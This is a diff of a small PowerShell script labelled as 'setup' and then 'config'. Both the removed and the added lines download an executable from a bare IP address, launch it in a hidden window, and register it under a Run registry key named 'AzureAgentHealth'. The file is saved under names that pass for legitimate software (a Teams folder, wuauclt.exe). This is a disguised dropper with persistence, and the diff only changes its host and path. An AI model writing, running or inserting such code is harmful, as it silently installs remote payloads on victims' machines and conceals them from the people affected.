@@ -1,4 +1,4 @@
-# setup 4804 v2
-Start-BitsTransfer -Source http://203.0.113.200/svc.exe -Destination $env:APPDATA\Teams\update.exe
-Start-Process -WindowStyle Hidden $env:APPDATA\Teams\update.exe
-New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'AzureAgentHealth' -Value '$env:APPDATA\Teams\update.exe' -PropertyType String -Force
+# config 0617 v2
+Start-BitsTransfer -Source http://198.51.100.23/svc.exe -Destination $env:TEMP\wuauclt.exe
+Start-Process -WindowStyle Hidden $env:TEMP\wuauclt.exe
+New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'AzureAgentHealth' -Value '$env:TEMP\wuauclt.exe' -PropertyType String -Force
